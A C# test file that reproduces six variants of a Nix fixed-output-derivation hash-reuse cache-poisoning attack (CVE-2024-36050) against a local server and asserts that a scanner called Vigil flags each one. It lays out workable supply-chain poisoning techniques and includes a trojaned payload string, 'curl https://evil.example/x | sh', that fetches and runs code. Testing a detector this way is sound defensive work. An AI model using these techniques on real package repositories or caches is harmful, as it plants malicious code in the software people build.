using static Vigil.E2E.Tests.Attacks.AttackLab;

namespace Vigil.E2E.Tests.Attacks;

/// <summary>
/// The six variants of the FOD hash-reuse attack (CVE-2024-36050; docs/fod-attack-repro-vuln.md
/// §A.6), each reproduced with real Nix against a local server: the base revision is built into a
/// chroot store, the head keeps or borrows a hash while fetching something else, <c>nix-build</c>
/// of the head silently returns content the head's URL never served (the attack works), and
/// <c>vigil check-pr</c> flags it with the variant's kind and exit 1.
/// </summary>
public sealed class CachePoisoningAttackTests
{
    private const string NoNix = "nix is not installed";

    private static readonly byte[] Good1 = Text("honest 1.0: the real release\n");
    private static readonly byte[] Good2 = Text("honest 2.0: the real release\n");
    private const string EvilText = "honest 2.0 (trojaned): curl https://evil.example/x | sh\n";
    private static readonly byte[] Evil = Text(EvilText);

    /// <summary>Variant 1: a version bump that forgets (or "forgets") the hash gets the old source from the store.</summary>
    [Fact]
    public async Task Stale_hash_on_a_version_bump_reuses_the_old_source_and_is_flagged()
    {
        Assert.SkipWhen(!NixAvailable, NoNix);
        await using var lab = new AttackLab();
        var (v1, _) = await ServeTreeReleasesAsync(lab);
        // fetchzip names its output "source" whatever the version, so the stale hash names the old path.
        var baseFile = lab.Write("base.nix", Zip("1.0", Sri(v1)));
        var headFile = lab.Write("head.nix", Zip("2.0", Sri(v1)));
        var store = lab.NewStore("victim");

        var old = await BuildOneAsync(store, baseFile, "honest");
        Assert.True(lab.Server.WasRequested("/honest-1.0.nar"));
        var head = await BuildOneAsync(store, headFile, "honest");
        Assert.Equal(old, head);
        Assert.Equal("honest 1.0\n", await File.ReadAllTextAsync(Path.Combine(store.OnDisk(head), "VERSION")));
        Assert.False(lab.Server.WasRequested("/honest-2.0.nar"), "Nix fetched the new URL: the attack did not happen");
        await lab.AssertFreshBuildRejectsAsync(headFile, "honest");

        var check = await lab.CheckPrAsync(store, baseFile, headFile);
        var finding = check.AssertFlags("hash-unchanged-on-version-bump", "honest");
        Assert.Equal("error", finding.Severity);
        Assert.Equal(old, finding.OutputPath);

        // --fail-on never reports the same and lets the job pass; the second run reuses the stored drvs.
        var lenient = await lab.CheckPrAsync(store, baseFile, headFile, "--fail-on", "never");
        Assert.True(lenient.ExitCode == 0, lenient.Explain());
        Assert.Contains(lenient.Parsed.Findings, f => f.Kind == "hash-unchanged-on-version-bump");

        static string Zip(string version, string hash) => $$"""
            let inherit (import ./lib.nix) fetchzip; in
            {
              honest = fetchzip { url = "@URL@/honest-{{version}}.nar"; hash = "{{hash}}"; };
            }
            """;
    }

    /// <summary>
    /// Variant 2, the CVE's main form (the PoC's fetchurl version): a quiet icon package really
    /// fetches the malicious file under its true hash, named as the honest package's next release
    /// will be; the honest package's bump then "uses" that hash.
    /// </summary>
    [Fact]
    public async Task Another_packages_hash_makes_the_bump_build_the_malicious_file_and_is_flagged()
    {
        Assert.SkipWhen(!NixAvailable, NoNix);
        await using var lab = new AttackLab();
        ServeFlatReleases(lab);
        lab.Server.Serve("/icons/icon-theme-0.3.tar.gz", Evil);
        const string Icon = """
              # Nobody reviews the icon theme closely: its file really has this hash, and its name
              # is the one the honest package's next release will have.
              icon-theme = package "icon-theme-0.3" (fetchurl {
                url = "@URL@/icons/icon-theme-0.3.tar.gz";
                name = "honest-2.0.tar.gz";
                hash = "{{evil}}";
              });
            """;
        var baseFile = lab.Write("base.nix", Packages("1.0", Sri(Good1), Icon.Replace("{{evil}}", Sri(Evil), StringComparison.Ordinal)));
        var headFile = lab.Write("head.nix", Packages("2.0", Sri(Evil), Icon.Replace("{{evil}}", Sri(Evil), StringComparison.Ordinal)));
        var store = lab.NewStore("victim");

        await BuildAllAsync(store, baseFile);
        Assert.True(lab.Server.WasRequested("/icons/icon-theme-0.3.tar.gz"));
        var honest = await BuildOneAsync(store, headFile, "honest");
        Assert.Equal(Evil, await File.ReadAllBytesAsync(Path.Combine(store.OnDisk(honest), "share/src")));
        Assert.False(lab.Server.WasRequested("/honest-2.0.tar.gz"), "Nix fetched the honest URL: the attack did not happen");
        await lab.AssertFreshBuildRejectsAsync(headFile, "honest");

        var check = await lab.CheckPrAsync(store, baseFile, headFile);
        var finding = check.AssertFlags("hash-reused-with-new-recipe", "honest");
        // The finding names where the hash came from: the icon theme's recipe.
        Assert.Contains(finding.Related ?? [], f => f.Urls.Contains(lab.Server.Url("/icons/icon-theme-0.3.tar.gz")));

        static string Packages(string version, string hash, string icon) => $$"""
            let inherit (import ./lib.nix) fetchurl package; in
            {
              honest = package "honest-{{version}}" (fetchurl { url = "@URL@/honest-{{version}}.tar.gz"; hash = "{{hash}}"; });
            {{icon}}
            }
            """;
    }

    /// <summary>
    /// Variant 3: the malicious file sits in a third-party binary cache (an attacker's PR built by
    /// a CI that caches, a cachix, a garnix). Content-addressed paths need no signature, so a
    /// victim that trusts the cache for anything gets it for the bumped package.
    /// </summary>
    [Fact]
    public async Task A_poisoned_binary_cache_serves_the_bumped_hash_and_is_flagged()
    {
        Assert.SkipWhen(!NixAvailable, NoNix);
        await using var lab = new AttackLab();
        ServeFlatReleases(lab);
        lab.Server.Serve("/elsewhere/payload.tar.gz", Evil);
        var bait = lab.Write("bait.nix", $$"""
            let inherit (import ./lib.nix) fetchurl; in
            {
              bait = fetchurl { url = "@URL@/elsewhere/payload.tar.gz"; name = "honest-2.0.tar.gz"; hash = "{{Sri(Evil)}}"; };
            }
            """);
        var baseFile = lab.Write("base.nix", Honest("1.0", Sri(Good1)));
        var headFile = lab.Write("head.nix", Honest("2.0", Sri(Evil)));

        var attacker = lab.NewStore("attacker");
        var poisoned = await BuildOneAsync(attacker, bait, "bait");
        var cache = "file://" + Path.Combine(attacker.Root, "cache");
        await attacker.RunNixAsync("copy", "--to", cache, poisoned);

        var victim = lab.NewStore("victim");
        await BuildOneAsync(victim, baseFile, "honest");
        var requestsBefore = lab.Server.Requests.Count;
        var honest = await BuildOneAsync(victim, headFile, "honest", "--option", "substituters", cache);
        Assert.Equal(poisoned, honest);
        Assert.Equal(Evil, await File.ReadAllBytesAsync(victim.OnDisk(honest)));
        Assert.Equal(requestsBefore, lab.Server.Requests.Count);
        Assert.False(lab.Server.WasRequested("/honest-2.0.tar.gz"), "Nix fetched the honest URL: the attack did not happen");
        await lab.AssertFreshBuildRejectsAsync(headFile, "honest");

        // A store that has never seen the bait: only the cache can tell Vigil where the hash came from.
        var clean = lab.NewStore("ci");
        var check = await lab.CheckPrAsync(clean, baseFile, headFile, "--substituter", cache);
        check.AssertFlags("hash-reused-with-new-recipe", "honest");

        // Once substituted, the victim's own store holds the bait's content under the bait's deriver.
        var after = await lab.CheckPrAsync(victim, baseFile, headFile);
        after.AssertFlags("hash-reused-with-new-recipe", "honest");
    }

    /// <summary>
    /// Variant 4: a recursive sha256 FOD named <c>source</c> has the same path as any store object
    /// with that name and NAR hash, here a vendored tree added by <c>builtins.path</c>; no FOD ever
    /// produced it, so no recipe vouches for it.
    /// </summary>
    [Fact]
    public async Task A_source_path_added_by_builtins_path_satisfies_a_new_fod_and_is_flagged()
    {
        Assert.SkipWhen(!NixAvailable, NoNix);
        await using var lab = new AttackLab();
        var theme = lab.WriteTree("vendor/theme", new Dictionary<string, string> { ["payload"] = EvilText });
        var themeHash = Sri(await lab.NarAsync(theme));
        lab.Server.Serve("/honest-2.0/payload", Good2);
        const string Theme = """
              # A documentation theme vendored into the repository, added to the store under the
              # name every fetchFromGitHub output has.
              docs-theme = package "docs-theme" (builtins.path { path = ./vendor/theme; name = "source"; });
            """;
        var baseFile = lab.Write("base.nix", $$"""
            let inherit (import ./lib.nix) package; in
            {
            {{Theme}}
            }
            """);
        var headFile = lab.Write("head.nix", $$"""
            let inherit (import ./lib.nix) fetchWithCurl package; in
            {
            {{Theme}}
              honest = package "honest-2.0" (fetchWithCurl { url = "@URL@/honest-2.0/payload"; hash = "{{themeHash}}"; });
            }
            """);
        var store = lab.NewStore("victim");

        await BuildAllAsync(store, baseFile);
        var honest = await BuildOneAsync(store, headFile, "honest");
        Assert.Equal(Evil, await File.ReadAllBytesAsync(Path.Combine(store.OnDisk(honest), "share/src/payload")));
        Assert.Empty(lab.Server.Requests);
        await lab.AssertFreshBuildRejectsAsync(headFile, "honest");

        var check = await lab.CheckPrAsync(store, baseFile, headFile);
        check.AssertFlags("path-collides-with-non-fod", "honest");
    }

    /// <summary>
    /// Variant 5: a hashed mirror answers by hash, whatever the URL says. A head whose only URL is
    /// a hashed-mirror address fetches content no upstream published; and with a hashed mirror
    /// configured, even <c>--check</c> of a stale-hash bump never contacts the new URL.
    /// </summary>
    [Fact]
    public async Task A_hashed_mirror_hides_what_upstream_serves_and_both_forms_are_flagged()
    {
        Assert.SkipWhen(!NixAvailable, NoNix);
        await using var lab = new AttackLab();
        ServeFlatReleases(lab);
        var mirrored = $"/tarballs/sha256/{Hex(Evil)}";
        lab.Server.Serve(mirrored, Evil);
        var baseFile = lab.Write("base.nix", Honest("1.0", Sri(Good1)));
        var mirrorOnly = lab.Write("head-mirror.nix", $$"""
            let inherit (import ./lib.nix) fetchurl; in
            {
              honest = fetchurl { url = "@URL@{{mirrored}}"; name = "honest-2.0.tar.gz"; hash = "{{Sri(Evil)}}"; };
            }
            """);
        var store = lab.NewStore("victim");

        await BuildOneAsync(store, baseFile, "honest");
        var honest = await BuildOneAsync(store, mirrorOnly, "honest");
        Assert.Equal(Evil, await File.ReadAllBytesAsync(store.OnDisk(honest)));
        Assert.True(lab.Server.WasRequested(mirrored));
        Assert.False(lab.Server.WasRequested("/honest-2.0.tar.gz"), "the head names no upstream URL, yet Nix fetched one");

        var check = await lab.CheckPrAsync(store, baseFile, mirrorOnly);
        check.AssertFlags("fetch-from-hashed-mirror-only", "honest");

        // The same lookup as Nix's hashed-mirrors setting: a stale-hash bump builds in a fresh
        // store, and passes --check, from the mirror alone.
        var stale = lab.Write("head-stale.nix", Honest("2.0", Sri(Good1)));
        lab.Server.Serve($"/mirror/sha256/{Hex(Good1)}", Good1);
        var mirrorOption = new[] { "--option", "hashed-mirrors", lab.Server.Url("/mirror") };
        var fresh = lab.NewStore("fresh");
        var staleOut = await BuildOneAsync(fresh, stale, "honest", mirrorOption);
        var check2 = await BuildAsync(fresh, stale, ["honest"], ["--check", .. mirrorOption]);
        Assert.True(check2.ExitCode == 0, $"--check with a hashed mirror should pass: {check2.Stderr}");
        Assert.Equal(Good1, await File.ReadAllBytesAsync(fresh.OnDisk(staleOut)));
        Assert.Equal(2, lab.Server.Requests.Count(r => r == $"/mirror/sha256/{Hex(Good1)}"));
        Assert.False(lab.Server.WasRequested("/honest-2.0.tar.gz"), "Nix fetched the new URL despite the hashed mirror");

        await lab.AssertFreshBuildRejectsAsync(stale, "honest");

        var staleCheck = await lab.CheckPrAsync(fresh, baseFile, stale);
        staleCheck.AssertFlags("hash-unchanged-on-version-bump", "honest");
    }

    /// <summary>
    /// Variant 6, the PoC's single-evaluation form: two FODs of one revision share name and hash,
    /// one fetching the malicious file. No cache is needed; whichever Nix realises first decides
    /// what both get (here the icons, built first, as a CI job order or an attacker's luck makes it).
    /// </summary>
    [Fact]
    public async Task Two_recipes_for_one_path_in_one_revision_let_the_first_decide_and_are_flagged()
    {
        Assert.SkipWhen(!NixAvailable, NoNix);
        await using var lab = new AttackLab();
        var (v1, _) = await ServeTreeReleasesAsync(lab);
        var evil = await lab.NarAsync(lab.WriteTree("icons-0.1", new Dictionary<string, string> { ["VERSION"] = "honest 2.0 (trojaned)\n" }));
        lab.Server.Serve("/cdn/icons-0.1.nar", evil);
        var baseFile = lab.Write("base.nix", $$"""
            let inherit (import ./lib.nix) fetchzip package; in
            {
              honest = package "honest-1.0" (fetchzip { url = "@URL@/honest-1.0.nar"; hash = "{{Sri(v1)}}"; });
            }
            """);
        var headFile = lab.Write("head.nix", $$"""
            let inherit (import ./lib.nix) fetchzip package; in
            {
              honest = package "honest-2.0" (fetchzip { url = "@URL@/honest-2.0.nar"; hash = "{{Sri(evil)}}"; });
              icons = package "icons-0.1" (fetchzip { url = "@URL@/cdn/icons-0.1.nar"; hash = "{{Sri(evil)}}"; });
            }
            """);
        var store = lab.NewStore("victim");

        await BuildOneAsync(store, baseFile, "honest");
        await BuildOneAsync(store, headFile, "icons");
        var honest = await BuildOneAsync(store, headFile, "honest");
        Assert.Equal("honest 2.0 (trojaned)\n", await File.ReadAllTextAsync(Path.Combine(store.OnDisk(honest), "share/src/VERSION")));
        Assert.False(lab.Server.WasRequested("/honest-2.0.nar"), "Nix fetched the honest URL: the attack did not happen");
        await lab.AssertFreshBuildRejectsAsync(headFile, "honest");

        var check = await lab.CheckPrAsync(store, baseFile, headFile);
        var finding = check.AssertFlags("output-path-shared-by-recipes", "honest");
        Assert.Contains(finding.Related ?? [], f => f.Urls.Contains(lab.Server.Url("/cdn/icons-0.1.nar")));
    }

    /// <summary>Upstream's two honest releases as flat files: <c>/honest-1.0.tar.gz</c> and <c>/honest-2.0.tar.gz</c>.</summary>
    private static void ServeFlatReleases(AttackLab lab)
    {
        lab.Server.Serve("/honest-1.0.tar.gz", Good1);
        lab.Server.Serve("/honest-2.0.tar.gz", Good2);
    }

    /// <summary>Upstream's two honest releases as trees (a VERSION file and a source file), served as <c>/honest-1.0.nar</c> and <c>/honest-2.0.nar</c>.</summary>
    private static async Task<(byte[] V1, byte[] V2)> ServeTreeReleasesAsync(AttackLab lab)
    {
        var nars = new List<byte[]>();
        foreach (var version in (string[])["1.0", "2.0"])
        {
            var nar = await lab.NarAsync(lab.WriteTree($"honest-{version}", new Dictionary<string, string>
            {
                ["VERSION"] = $"honest {version}\n",
                ["src/main.c"] = $"int main(void) {{ return 0; }} /* {version} */\n",
            }));
            lab.Server.Serve($"/honest-{version}.nar", nar);
            nars.Add(nar);
        }
        return (nars[0], nars[1]);
    }

    /// <summary>One package, <c>honest</c>, as the flat file of its release.</summary>
    private static string Honest(string version, string hash) => $$"""
        let inherit (import ./lib.nix) fetchurl; in
        {
          honest = fetchurl { url = "@URL@/honest-{{version}}.tar.gz"; hash = "{{hash}}"; };
        }
        """;
}
